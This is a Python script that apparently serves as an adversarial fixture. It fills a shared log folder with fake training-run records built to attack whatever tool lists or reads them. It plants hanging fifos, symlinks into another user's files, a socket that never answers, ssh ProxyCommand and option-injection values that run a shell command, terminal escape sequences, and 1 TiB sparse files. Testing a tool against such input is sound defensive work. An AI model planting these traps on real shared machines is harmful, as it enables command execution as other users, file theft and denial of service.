#!/usr/bin/env python3
# litter.py FOLDER VICTIM -- what another user of a machine can put into a log folder that several people share: fifos, links, sockets and
# records in the shape of runs, made to hang, to be followed, to be executed, or to be believed by whoever asks for runs there. VICTIM is a
# folder of somebody else's that the links point into. Serves its sockets until SIGTERM; prints "littered" once.
import json
import os
import socket
import sys

top, victim = sys.argv[1], sys.argv[2]
kEvil = "touch /tmp/loot/by-$(id -un)"
os.umask(0)


def run(number):
    path = f"{top}/20301231-0000{number:02}-beef"
    os.makedirs(path + "/ranks")
    os.makedirs(path + "/facts")
    return path


def record(path, **more):
    text = {
        "schema": 1, "id": os.path.basename(path), "began": "2026-11-22T10:00:00.000Z", "command": ["train\x1b]0;owned\x07"],
        "world_size": 1, "state": "running", "hosts": [{"host": "h1", "first_rank": 0, "ranks": 1}], "lease_ms": 3000,
        "launcher": {"host": os.uname().nodename, "pid": 1},
        "reach": {"hosts": [{"host": "h1", "destination": "h1"}], "ssh_options": ["ProxyCommand=/bin/sh -c '" + kEvil + "'"]},
    }  # fmt: skip
    text.update(more)
    with open(path + "/run.json", "w") as file:
        json.dump(text, file)


def own_mark():
    with open("/proc/self/stat") as file:
        started = int(file.read().rsplit(")", 1)[1].split()[19])
    return {
        "host": os.uname().nodename, "pid": os.getpid(), "started": started, "machine_id": open("/etc/machine-id").read().strip(),
        "boot_id": open("/proc/sys/kernel/random/boot_id").read().strip(),
        "pid_namespace": os.readlink("/proc/self/ns/pid"),
    }  # fmt: skip


fifos = run(1)  # every file of a run is a fifo without a writer
for name in ("run.json", "events.jsonl", "progress.jsonl", "launcher.log", "ranks/0.log", "facts/0.json", "control"):
    os.mkfifo(f"{fifos}/{name}")

links = run(2)  # every file is a link to something of the victim
record(links, state="ended", verdict="done")
for name in ("events.jsonl", "progress.jsonl", "launcher.log", "ranks/0.log", "facts/0.json"):
    os.symlink(victim + "/secret", f"{links}/{name}")

folders = run(3)  # so is a folder in which there are such files
record(folders, state="ended", verdict="done")
for name in ("ranks", "facts"):
    os.rmdir(f"{folders}/{name}")
    os.symlink(victim, f"{folders}/{name}")

alive = run(4)  # a launcher that lives, takes every connection, and never says anything
record(alive, launcher=own_mark())
silent = socket.socket(socket.AF_UNIX)
silent.bind(alive + "/control")
silent.listen(50)

elsewhere = run(5)  # a launcher on a machine whose name is an option of ssh
record(elsewhere, launcher={"host": "-oProxyCommand=" + kEvil, "pid": 5, "machine_id": "0" * 32, "boot_id": "x", "started": 5})

advice = run(6)  # an end that gives advice
words = [{"message": "\x1b[2Jthe disk is full", "because": "\x1b]52;c;Y3VybAo=\x07", "hint": kEvil}]
record(advice, state="ended", verdict="rank-failed", exit_code=1, explained={"en": words, "zh": words})

lost = run(7)  # a launcher that is dead: what `stop` is for
record(lost, launcher={**own_mark(), "pid": 4_000_000})

large = run(8)  # more than anybody can read
record(large, state="ended", verdict="done", world_size=1 << 40, hosts=[{"host": "h", "ranks": 1 << 40}])
for name in ("events.jsonl", "progress.jsonl", "launcher.log", "ranks/0.log", "facts/0.json"):
    with open(f"{large}/{name}", "w") as file:
        file.truncate(1 << 40)

huge = run(9)
with open(huge + "/run.json", "w") as file:
    file.truncate(1 << 40)

os.mkfifo(f"{top}/20301231-000010-beef")
os.symlink(victim, f"{top}/20301231-000011-beef")
os.symlink("20301231-000012-beef", f"{top}/20301231-000012-beef")
open(f"{top}/20301231-000013-beef", "w").close()
os.symlink(os.path.basename(alive), f"{top}/latest")

print("littered", flush=True)
held = []
while True:
    held.append(silent.accept())
